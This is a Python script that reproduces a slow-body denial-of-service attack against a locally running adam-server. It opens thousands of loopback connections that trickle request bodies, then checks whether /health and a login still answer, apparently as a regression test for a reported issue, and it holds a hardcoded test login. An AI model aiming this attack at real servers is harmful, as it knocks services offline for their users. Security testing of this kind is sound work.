#!/usr/bin/env python3
"""The slow-body attack of issue 26, against a running adam-server on this machine.

From one loopback address (127.0.0.1) it opens CONNECTIONS connections, each sending a request's
headers with `Content-Length: 60000` and then one byte every 5 s; meanwhile, from another
loopback address (127.0.0.2), it probes `/health` once a second (PROBES times, each given 1 s)
and signs in once. It prints what the attacker kept open and what the other address got.
Bounded: it stops after the probes (about PROBES + 10 seconds) and closes everything.

    python3 scripts/slow-body-attack.py http://127.0.0.1:PORT [CONNECTIONS] [PROBES]

The server and this script need a file limit above CONNECTIONS (`ulimit -n 16384`).
"""

import asyncio
import json
import sys
import time
import urllib.parse

BASE = sys.argv[1]
CONNECTIONS = int(sys.argv[2]) if len(sys.argv) > 2 else 4300
PROBES = int(sys.argv[3]) if len(sys.argv) > 3 else 20
URL = urllib.parse.urlsplit(BASE)
HOST, PORT = URL.hostname, URL.port
HEAD = (
    "POST /api/v1/auth/login HTTP/1.1\r\nHost: adam\r\nContent-Type: application/json\r\n"
    "Content-Length: 60000\r\n\r\n"
).encode()


async def slow_client(stats, stop):
    try:
        reader, writer = await asyncio.open_connection(HOST, PORT, local_addr=("127.0.0.1", 0))
    except OSError:
        stats["refused_at_connect"] += 1
        return
    stats["opened"] += 1
    try:
        writer.write(HEAD)
        await writer.drain()
        while not stop.is_set():
            # Still open? A closed connection reads EOF at once.
            try:
                data = await asyncio.wait_for(reader.read(1024), timeout=5)
                if not data:
                    stats["closed_by_server"] += 1
                    return
                if data.startswith(b"HTTP/1.1 408"):
                    stats["answered_408"] += 1
                continue
            except asyncio.TimeoutError:
                pass
            writer.write(b" ")
            await writer.drain()
    except (ConnectionError, OSError):
        stats["closed_by_server"] += 1
    finally:
        writer.close()


async def request(method, path, body=None):
    reader, writer = await asyncio.open_connection(HOST, PORT, local_addr=("127.0.0.2", 0))
    payload = json.dumps(body).encode() if body is not None else b""
    head = (
        f"{method} {path} HTTP/1.1\r\nHost: adam\r\nConnection: close\r\n"
        f"Content-Type: application/json\r\nContent-Length: {len(payload)}\r\n\r\n"
    ).encode()
    writer.write(head + payload)
    await writer.drain()
    answer = await reader.read()
    writer.close()
    return int(answer.split(b" ", 2)[1]) if answer else 0


async def main():
    stats = dict(opened=0, refused_at_connect=0, closed_by_server=0, answered_408=0)
    stop = asyncio.Event()
    clients = []
    for _ in range(CONNECTIONS):
        clients.append(asyncio.create_task(slow_client(stats, stop)))
        await asyncio.sleep(0)
    await asyncio.sleep(2)  # let the attack settle
    probes = []
    for _ in range(PROBES):
        started = time.monotonic()
        try:
            status = await asyncio.wait_for(request("GET", "/health"), timeout=1)
        except (asyncio.TimeoutError, OSError):
            status = None
        probes.append((status, time.monotonic() - started))
        await asyncio.sleep(max(0, 1 - (time.monotonic() - started)))
    started = time.monotonic()
    try:
        signin = await asyncio.wait_for(
            request("POST", "/api/v1/auth/login",
                    {"email": "manager@premiumauto.com", "password": "Manager123!"}),
            timeout=5)
    except (asyncio.TimeoutError, OSError):
        signin = None
    signin_s = time.monotonic() - started
    still_open = stats["opened"] - stats["closed_by_server"]
    stop.set()
    for c in clients:
        c.cancel()
    await asyncio.gather(*clients, return_exceptions=True)
    ok = [s for s, _ in probes if s == 200]
    worst = max(t for _, t in probes)
    print(f"attacker: {CONNECTIONS} tried, {stats['opened']} connected, "
          f"{stats['closed_by_server']} closed by the server, {still_open} still open at the end")
    print(f"other address: {len(ok)} of {PROBES} /health probes answered 200 within 1 s "
          f"(slowest {worst * 1000:.1f} ms); sign-in {signin} in {signin_s * 1000:.0f} ms")
    sys.exit(0 if len(ok) == PROBES and signin == 200 else 1)


asyncio.run(main())
